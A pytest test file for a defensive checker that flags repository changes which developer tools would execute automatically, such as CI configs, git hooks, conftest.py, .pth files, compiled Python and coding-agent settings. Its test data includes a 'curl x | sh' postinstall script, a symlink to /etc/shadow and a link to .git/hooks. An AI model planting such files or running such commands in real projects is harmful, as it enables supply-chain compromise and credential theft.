"""Which changed paths the user's own tools would execute or obey."""

import pytest

from policies import Change, ChangeKind, EntryKind, flag_change, same_package_scripts


def flag(path, kind=ChangeKind.ADDED, entry=EntryKind.FILE, *, content="", mode=0o644):
    raw = path if isinstance(path, bytes) else path.encode()
    change = Change(path=raw, kind=kind, entry=entry, content=content, mode=mode)
    return flag_change(change)


def link(path, target):
    return flag(path, entry=EntryKind.SYMLINK, content=target, mode=0o777)


@pytest.mark.parametrize(
    ("path", "tool"),
    [
        (".envrc", "shell"),
        ("deep/down/.envrc", "shell"),
        (".env", "shell"),
        (".env.local", "shell"),
        (".vscode/tasks.json", "editor"),
        (".vscode/launch.json", "editor"),
        (".vscode/settings.json", "editor"),
        ("sub/.vscode/tasks.json", "editor"),
        (".idea/runConfigurations/all.xml", "editor"),
        (".devcontainer/devcontainer.json", "development container"),
        (".github/workflows/ci.yml", "CI"),
        (".gitlab-ci.yml", "CI"),
        ("Jenkinsfile", "CI"),
        (".circleci/config.yml", "CI"),
        ("azure-pipelines.yml", "CI"),
        (".pre-commit-config.yaml", "git hook"),
        (".husky/pre-commit", "git hook"),
        (".githooks/post-checkout", "git hook"),
        (".gitattributes", "git"),
        (".gitmodules", "git"),
        ("sitecustomize.py", "Python"),
        ("src/evil.pth", "Python"),
        ("conftest.py", "Python tests and builds"),
        ("tests/conftest.py", "Python tests and builds"),
        ("conftest/__init__.py", "Python tests and builds"),
        ("pytest/__init__.py", "Python tests and builds"),
        ("_pytest/config/__init__.py", "Python tests and builds"),
        ("pytest.toml", "Python tests and builds"),
        (".pytest.toml", "Python tests and builds"),
        ("pytest.ini", "Python tests and builds"),
        (".pytest.ini", "Python tests and builds"),
        ("sitecustomize/__init__.py", "Python"),
        ("src/usercustomize/__init__.py", "Python"),
        ("src/app.pyc", "compiled Python"),
        ("conftest.pyc", "compiled Python"),
        ("sitecustomize.pyc", "compiled Python"),
        ("usercustomize.pyc", "compiled Python"),
        ("src/__pycache__/app.cpython-311.pyc", "compiled Python"),
        ("src/__pycache__/other", "compiled Python"),
        ("src/app.so", "compiled Python"),
        ("src/app.cpython-311-x86_64-linux-gnu.so", "compiled Python"),
        ("src/app.pyd", "compiled Python"),
        ("src/app.dylib", "compiled Python"),
        ("tox.ini", "Python tests and builds"),
        ("noxfile.py", "Python tests and builds"),
        ("setup.py", "Python tests and builds"),
        ("pyproject.toml", "Python tests and builds"),
        ("package.json", "package scripts"),
        ("web/package.json", "package scripts"),
        (".npmrc", "package manager"),
        (".yarnrc.yml", "package manager"),
        ("vite.config.ts", "JavaScript tools"),
        ("Makefile", "make"),
        ("GNUmakefile", "make"),
        ("justfile", "make"),
        ("Rakefile", "make"),
        ("build.rs", "language tools"),
        (".cargo/config.toml", "language tools"),
        (".gdbinit", "debugger"),
        (".claude/settings.json", "coding agent"),
        (".codex/config.toml", "coding agent"),
        (".cursor/mcp.json", "coding agent"),
        (".mcp.json", "coding agent"),
        ("AGENTS.md", "coding agent"),
    ],
)
def test_what_a_tool_runs_is_flagged_with_that_tool(path, tool):
    assert flag(path).tool == tool


@pytest.mark.parametrize(
    "path",
    [
        "README.md",
        "src/app.py",
        "tests/test_conftest.py",
        "envrc",
        "docs/github/workflows/ci.yml",
        "vendored/.github/workflows/ci.yml",
        "package-lock.json",
        "src/pycache/app.py",
        "docs/pytest/index.md",
        "src/also",
        "my.vscode/tasks.json",
    ],
)
def test_an_ordinary_path_is_not_flagged(path):
    assert flag(path) is None


@pytest.mark.parametrize("path", [".VSCode/Tasks.json", "ConfTest.py", ".ENVRC"])
def test_letters_count_without_case(path):
    assert flag(path) is not None


@pytest.mark.parametrize("kind", list(ChangeKind))
def test_every_kind_of_change_of_such_a_file_is_flagged(kind):
    assert flag(".npmrc", kind).path == b".npmrc"


def test_a_compiled_file_is_flagged_with_what_makes_it_dangerous():
    assert flag("src/__pycache__/app.pyc").reason == (
        "python runs compiled files in place of the source that people read"
    )


def test_a_name_that_is_not_utf8_is_kept_as_bytes():
    assert flag(b"caf\xe9/.envrc").to_json()["path"] == "caf\\xe9/.envrc"


@pytest.mark.parametrize(
    ("path", "target"),
    [
        ("out.txt", "/etc/shadow"),
        ("d", "/"),
        ("x", ".."),
        ("a/b", "../../x"),
        ("a", "b/../../c"),
        ("e", "deep/link/.."),
        ("hooks", ".git/hooks"),
        ("a/hooks", "../.GIT/hooks"),
    ],
)
def test_a_link_that_may_leave_the_repository_is_flagged(path, target):
    assert link(path, target).tool == "link"


@pytest.mark.parametrize(("path", "target"), [("a/b", "../c"), ("a", "./b/c"), ("a", "b.git/x")])
def test_a_link_within_the_repository_is_not_flagged(path, target):
    assert link(path, target) is None


@pytest.mark.parametrize(
    ("path", "tool"),
    [
        (".vscode", "editor"),
        ("src/__pycache__", "compiled Python"),
        ("sitecustomize", "Python"),
        (".github", "CI"),
        (".github/workflows", "CI"),
        ("sub/.husky", "git hook"),
        ("gradle", "language tools"),
    ],
)
def test_a_link_in_place_of_a_folder_that_tools_read_is_flagged(path, tool):
    assert link(path, "harmless").tool == tool


def test_a_link_that_went_away_leads_nowhere():
    assert flag("x", ChangeKind.DELETED, EntryKind.SYMLINK, content="") is None


@pytest.mark.parametrize("kind", [ChangeKind.ADDED, ChangeKind.MODE])
def test_what_has_become_a_program_is_flagged(kind):
    assert flag("tools/run", kind, mode=0o755).tool == "shell"


def test_a_changed_program_and_a_directory_are_not_flagged():
    assert flag("tools/run", ChangeKind.MODIFIED, mode=0o755) is None
    assert flag(".husky", entry=EntryKind.DIRECTORY, mode=0o755) is None


@pytest.mark.parametrize(
    ("before", "after", "same"),
    [
        (b'{"version": "1"}', b'{"version": "2", "dependencies": {"a": "1"}}', True),
        (b'{"scripts": {"test": "a"}}', b'{"scripts": {"test": "a"}, "x": 1}', True),
        (b'{"scripts": {"test": "a"}}', b'{"scripts": {"test": "b"}}', False),
        (b"{}", b'{"scripts": {"postinstall": "curl x | sh"}}', False),
        (b"{}", b'{"husky": {"hooks": {}}}', False),
        (b"{}", b'{"packageManager": "yarn@evil"}', False),
        (b"{}", b"not json", False),
        (b"[]", b"[]", False),
        (b"{}", b"[" * 100_000, False),
    ],
)
def test_package_scripts_are_the_same_only_when_nothing_that_runs_has_changed(before, after, same):
    assert same_package_scripts(before, after) is same
